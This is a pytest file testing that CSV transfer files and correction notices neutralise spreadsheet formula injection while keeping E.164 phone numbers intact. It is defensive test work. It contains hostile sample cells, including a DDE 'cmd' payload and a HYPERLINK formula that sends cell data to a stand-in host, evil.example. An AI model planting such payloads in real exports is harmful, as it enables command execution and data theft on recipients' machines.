"""CSV formula injection: every CSV we write (transfer files streamed by PostgreSQL, follow-up
notices written by Python) neutralises cells a spreadsheet would run; E.164 phones stay usable."""

from __future__ import annotations

import csv
import json
import uuid

import pytest
from sqlalchemy import literal, select
from partner_endpoint import FAST, make_partner, make_person, partner_server, rows_of, transfer_for  # noqa: F401

from shared.models import Company
from shared.common.csv_safety import neutralise, neutralise_sql
from shared.subject_requests.followups import queue_partner_followups
from shared.transfers import files
from shared.transfers.service import deliver_followups, run_transfer

CASES = [
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("+1+1", "'+1+1"),
    ("-2+3", "'-2+3"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\uff1dHYPERLINK(\"http://x.example\")", "'\uff1dHYPERLINK(\"http://x.example\")"),  # full-width =
    ("+358401234567", "+358401234567"),  # E.164: only ever that number, and a partner can dial it
    ("+358 40 123 4567", "'+358 40 123 4567"),  # not E.164: the rule does not guess
    ("+0401234567", "'+0401234567"),  # E.164 has no leading zero
    ("+3584012345678901", "'+3584012345678901"),  # 16 digits: longer than E.164 allows
    ("Mäkinen", "Mäkinen"),
    ("Anna-Liisa", "Anna-Liisa"),  # a hyphen inside is nothing
    ("", ""),
]


@pytest.mark.parametrize(("value", "expected"), CASES)
def test_formula_cells_get_a_quote_and_phones_do_not(value, expected):
    assert neutralise(value) == expected


def test_values_that_are_not_text_pass_through():
    assert [neutralise(v) for v in (None, -2, 3.5)] == [None, -2, 3.5]


def test_the_sql_rule_is_the_python_rule(session):
    values = [value for value, _ in CASES]
    got = session.execute(select(*(neutralise_sql(literal(v)) for v in values))).one()
    assert list(got) == [expected for _, expected in CASES]
    assert session.execute(select(neutralise_sql(literal(None)))).scalar_one() is None


HOSTILE = {"first_name": "=cmd|' /C calc'!A0", "last_name": "@SUM(1+1)", "position": "-2+3"}


def test_a_transfer_file_neutralises_hostile_cells_and_keeps_the_phone(session, partner_server):  # noqa: F811
    partner = make_partner(session, partner_server.url, fields=["first_name", "last_name", "phone", "position",
                                                                 "company_name"])
    person = make_person(session, **HOSTILE)
    session.get(Company, person.company_id).name = "+1+1"  # a company name can be hostile too
    session.flush()
    transfer = transfer_for(session, partner, companies=[person.company_id])
    assert run_transfer(session, transfer_id=transfer.id, options=FAST)["status"] == "delivered"
    [row] = rows_of(partner_server.received[0])
    assert {k: v for k, v in row.items() if k != "ref"} == {
        "first_name": "'=cmd|' /C calc'!A0", "last_name": "'@SUM(1+1)", "phone": "+358401234567",
        "position": "'-2+3", "company_name": "'+1+1"}


def test_json_files_keep_the_values_exactly(session, partner_server):  # noqa: F811
    partner = make_partner(session, partner_server.url, file_format="json", fields=["first_name", "last_name"])
    person = make_person(session, **{k: HOSTILE[k] for k in ("first_name", "last_name")})
    transfer = transfer_for(session, partner, companies=[person.company_id])
    run_transfer(session, transfer_id=transfer.id, options=FAST)
    [row] = json.loads(partner_server.received[0]["body"])["rows"]
    assert (row["first_name"], row["last_name"]) == (HOSTILE["first_name"], HOSTILE["last_name"])


def test_a_correction_notice_neutralises_the_corrected_values(session, partner_server):  # noqa: F811
    partner = make_partner(session, partner_server.url)
    person = make_person(session)
    run_transfer(session, transfer_id=transfer_for(session, partner, companies=[person.company_id]).id, options=FAST)
    person.last_name = "=HYPERLINK(\"http://evil.example/?\"&A1)"
    session.add(person)
    queue_partner_followups(session, contact_id=person.id, kind="correction", request_id=uuid.uuid4())
    assert deliver_followups(session, options=FAST)["delivered"] >= 1
    [notice] = [r for r in rows_of(partner_server.received[-1]) if r["notice"] == "correction"]
    assert notice["last_name"] == "'=HYPERLINK(\"http://evil.example/?\"&A1)"


def test_write_rows_neutralises_every_cell(tmp_path):
    path = tmp_path / "rows.csv"
    files.write_rows(path, [["=1+1", "+358401234567", "@x"]], file_format=files.FileFormat.csv,
                     header=["a", "b", "c"], meta={})
    with path.open(newline="") as handle:
        assert list(csv.reader(handle)) == [["a", "b", "c"], ["'=1+1", "+358401234567", "'@x"]]
